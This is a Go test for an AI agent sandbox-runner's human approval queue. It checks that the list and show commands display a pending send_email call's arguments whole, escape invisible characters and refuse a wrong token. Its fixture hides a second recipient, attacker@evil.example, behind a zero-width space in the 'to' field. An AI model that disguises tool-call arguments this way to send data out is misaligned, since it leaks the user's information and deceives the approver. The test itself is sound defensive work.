package main

import (
	"bytes"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/aisecops/aisecops/internal/testbuild"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/tidwall/gjson"
)

// TestApprovalsShowArguments runs the built sandbox-runner, files an
// approval as the filter would, and checks that `approvals list` and
// `approvals show` put the call's arguments in front of the approver:
// unmasked (the whole recipient), invisible characters escaped, bounded
// in the list and whole in show.
func TestApprovalsShowArguments(t *testing.T) {
	const secret, token = "filter-secret-0123456789", "approver-token-0123456789"
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	addr := l.Addr().String()
	l.Close()
	cmd := exec.Command(testbuild.Path(t, "sandbox-runner"), "--listen", addr, "--data-dir", t.TempDir(),
		"--tools-dir", testbuild.Path(t, "tools"), "--secret", secret, "--approver-token", token,
		"--audit-key", "audit-key-for-tests-0123456789-0123456789")
	var out bytes.Buffer
	cmd.Stderr = &out
	require.NoError(t, cmd.Start())
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	base := "http://" + addr
	ready := false
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline) && !ready; time.Sleep(50 * time.Millisecond) {
		if resp, err := http.Get(base + "/readyz"); err == nil {
			resp.Body.Close()
			ready = resp.StatusCode == 200
		}
	}
	require.True(t, ready, "runner not ready: %s", out.String())

	body := strings.Repeat("quarterly figures ", 40)
	req, _ := http.NewRequest("POST", base+"/v1/approvals", strings.NewReader(
		`{"tool":"send_email","args":{"to":"boss@example.com\u200b,attacker@evil.example","subject":"Q3","body":"`+body+`"},"reason":"irreversible tool","request_id":"r-7"}`))
	req.Header.Set("x-aisecops-secret", secret)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	require.Equal(t, 201, resp.StatusCode, "%s", b)
	id := gjson.GetBytes(b, "id").String()

	code, stdout, stderr := runCLI("approvals", "list", "--runner", base, "--token", token)
	require.Equal(t, exitOK, code, stderr)
	assert.Contains(t, stdout, id)
	assert.Contains(t, stdout, `args: { "to": "boss@example.com\u200b,attacker@evil.example", "subject": "Q3", "body": "quarterly figures`,
		"the whole recipient, the zero-width space shown")
	assert.NotContains(t, stdout, "\u200b")
	assert.Contains(t, stdout, "bytes more: approvals show ID)", "the list is bounded")
	for _, line := range strings.Split(stdout, "\n") {
		assert.LessOrEqual(t, len(line), 400, "list lines are bounded: %q", line)
	}

	code, stdout, stderr = runCLI("approvals", "show", "--runner", base, "--token", token, id)
	require.Equal(t, exitOK, code, stderr)
	assert.Contains(t, stdout, "tool:        send_email\n")
	assert.Contains(t, stdout, "request:     r-7\n")
	assert.Contains(t, stdout, "\n  \"to\": \"boss@example.com\\u200b,attacker@evil.example\",\n")
	assert.Contains(t, stdout, strings.TrimSpace(body), "show prints the arguments whole")

	code, _, stderr = runCLI("approvals", "show", "--runner", base, "--token", "wrong-token-000000000", id)
	assert.Equal(t, exitRefused, code)
	assert.Contains(t, stderr, "401")
	assert.NotContains(t, stderr, "attacker")

	code, _, stderr = runCLI("approvals", "show", "--runner", base, "--token", token)
	assert.Equal(t, exitUsage, code)
	assert.Contains(t, stderr, "usage: aisecops approvals list|show|approve|deny")
}
